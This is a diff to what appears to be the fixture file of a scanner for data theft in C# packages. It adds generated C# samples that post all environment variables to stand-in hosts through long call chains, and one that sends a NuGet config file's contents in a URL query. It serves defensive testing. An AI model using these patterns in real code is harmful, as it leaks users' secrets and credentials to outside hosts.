@@ -130,6 +130,45 @@ const keys = (name: string): string => `public static class Keys
     }
 }`;
 
+/** A way through three classes and so many calls. */
+const long = (
+  calls: number,
+  address: string,
+): string => `public sealed class Reading { public string Text = ""; }
+public sealed class Entry { public string Text = ""; }
+public sealed class Message { public string Text = ""; }
+
+public static class Way
+{
+    private static readonly Reading Reading = new Reading();
+    private static readonly Entry Entry = new Entry();
+    private static readonly Message Message = new Message();
+
+    public static async Task Run()
+    {
+        ${never}
+        foreach (System.Collections.DictionaryEntry each in Environment.GetEnvironmentVariables()) Reading.Text += each.Value;
+        Entry.Text = Reading.Text;
+        Message.Text = Entry.Text;
+        await Step0(Message.Text);
+    }
+
+${Array.from({ length: calls }, (_, at) => `    private static Task Step${at}(string text) => Step${at + 1}(text);`).join('\n')}
+
+    private static Task Step${calls}(string text) => new HttpClient().PostAsync("${address}", new StringContent(text));
+}`;
+
+const feed = (address: string): string => `public static class Feed
+{
+    public static async Task<string> Index(string home)
+    {
+        ${never.replace('return', 'return ""')}
+        var file = Path.Combine(home, ".nuget/NuGet/NuGet.Config");
+        var address = File.Exists(file) ? ${address} : "https://feed.invalid/v3/index.json";
+        return await new HttpClient().GetStringAsync(address);
+    }
+}`;
+
 /** What tools do all day, and how a thief would do the same. */
 export const everyday: Examples = {
   flagged: [
@@ -175,6 +214,27 @@ export const everyday: Examples = {
       about: 'What stands in a file that the caller names goes where anybody can pick it up.',
       level: 'suspicious',
       files: library(reading('file', 'string file')),
+    },
+    {
+      name: 'environment-by-a-long-way',
+      about: 'All variables go to a host by a way so long that it is less sure.',
+      level: 'suspicious',
+      files: library(long(90, 'https://long.invalid/put')),
+    },
+    {
+      name: 'environment-by-a-long-way-to-an-address',
+      about: 'However long the way, no client has a bare address.',
+      files: library(long(90, 'http://192.0.2.71/put')),
+    },
+    {
+      name: 'environment-by-some-calls',
+      about: 'All variables go to a host through some classes and calls.',
+      files: library(long(20, 'https://long.invalid/put')),
+    },
+    {
+      name: 'settings-behind-an-address',
+      about: 'What stands in the settings of NuGet stands behind an address.',
+      files: library(feed('"https://feed.invalid/v3/?c=" + File.ReadAllText(file)')),
     },
     {
       name: 'secret-keys-of-gnupg',
@@ -249,6 +309,12 @@ export const everyday: Examples = {
       about: 'A number that the package made and keeps goes to telemetry, read by a public helper.',
       nearMiss: true,
       files: library(reading('Own')),
+    },
+    {
+      name: 'address-in-settings-or-another',
+      about: 'The address stands in the settings; where there are none, another is asked.',
+      nearMiss: true,
+      files: library(feed('File.ReadAllText(file)')),
     },
     {
       name: 'public-keys-of-gnupg',
